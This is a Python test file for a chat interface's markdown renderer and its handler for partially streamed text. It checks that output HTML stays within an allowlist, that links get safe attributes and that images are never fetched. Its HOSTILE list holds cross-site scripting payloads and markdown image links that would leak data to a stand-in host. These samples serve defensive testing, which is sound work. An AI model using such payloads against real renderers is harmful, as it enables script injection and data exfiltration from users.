import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.ui.render.markdown import markdown
from app.ui.render.steady import steady

ELEMENTS = {
    *("p", "a", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h4", "h5", "h6", "div", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "title", "target", "rel", "tabindex", "role", "aria-label", "start", "style"}
STYLE = re.compile(r"text-align:(left|right|center)")


class _Look(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS
        for name, value in attrs:
            assert name in ATTRIBUTES or (name, value) == ("class", "wide")
            assert name != "style" or STYLE.fullmatch(value or "")
            assert name != "href" or re.match(r"https?://", value or "", re.IGNORECASE)


def _harmless(html: str) -> bool:
    assert not re.search(r"[\x00-\x1f\x7f]", html), "more than one line"
    look = _Look()
    look.feed(html)
    look.close()
    return True


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <iframe src=https://evil.example></iframe> text",
    "![leak](https://evil.example/?d=secret)",
    "![leak][1]\n\n[1]: https://evil.example/?d=secret",
    "[x](javascript:alert(1)) [y](data:text/html,<b>) [z](vbscript:x) [w](/v1/memory)",
    '[x](https://a.example/"onmouseover=alert(1))',
    "<javascript:alert(1)>",
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "| a |\n|---|\n| <b onclick=x>c</b> |",
    "</div></article><style>*{display:none}</style>",
    "<div>\n\n# out of the box\n\n</div>",
    "&lt;script&gt; &#60;script&#62;",
    "\x00\x1b[2J\u2028\x7f",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_the_texts_own_is_html(text: str) -> None:
    assert _harmless(markdown(text))
    assert _harmless(markdown(steady(text)))


@given(st.text(alphabet=st.sampled_from("ab1 \n\t`~*_[]()!<>|#-\"'&/:hps.\\"), max_size=80))
def test_no_text_becomes_anything_else_than_harmless_html(text: str) -> None:
    assert _harmless(markdown(text))
    assert _harmless(markdown(steady(text)))


def test_a_picture_is_never_fetched() -> None:
    assert "<img" not in markdown("![leak](https://evil.example/?d=secret)")


def test_links_tell_their_target_nothing() -> None:
    found = markdown("see [the law](https://example.org/law)")
    assert 'rel="nofollow noopener noreferrer"' in found
    assert 'title="https://example.org/law"' in found


def test_code_is_shown_as_it_is_written() -> None:
    assert "<code>a &lt; b&#10;&#10;c&#10;</code>" in markdown("```py\na < b\n\nc\n```")


def test_headings_stand_below_those_of_the_page_without_a_gap() -> None:
    assert re.findall(r"<(h\d)>", markdown("# a\n\n### b\n\n# c")) == ["h4", "h5", "h4"]


@pytest.mark.parametrize(
    ("partial", "shown"),
    [
        ("so **bold", "so **bold**"),
        ("so **", "so "),
        ("use `co", "use `co`"),
        ("`**` in code", "`**` in code"),
        ("a list\n- ", "a list"),
        ("a list\n1.", "a list"),
        ("see [the law](https://exa", "see the law"),
        ("as said [1", "as said [1"),
        ("text\n\n| a | b |", "text\n"),
        ("text\n\n| a | b |\n", "text\n"),
        ("| a |\n|---|\n| 1", "| a |\n|---|\n| 1"),
        ("```py\nx = **2", "```py\nx = **2"),
        ("```py\nx\n``", "```py\nx"),
        ("plain words", "plain words"),
        ("", ""),
    ],
)
def test_what_is_undecided_is_not_shown_wrongly(partial: str, shown: str) -> None:
    assert steady(partial) == shown


ANSWER = (
    "## Draft\n\nDear **Ms. Okafor**, see [the law](https://a.example) and `code`.\n\n"
    "- one\n- *two*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 2 ** 3\n```\n\nBye."
)


def test_no_mark_flickers_while_an_answer_grows() -> None:
    for length in range(len(ANSWER)):
        seen = re.sub(
            r"<[^>]+>", "", re.sub(r"<pre.*?</pre>", "", markdown(steady(ANSWER[:length])))
        )
        assert "**" not in seen
        assert "](" not in seen
        assert "|" not in seen
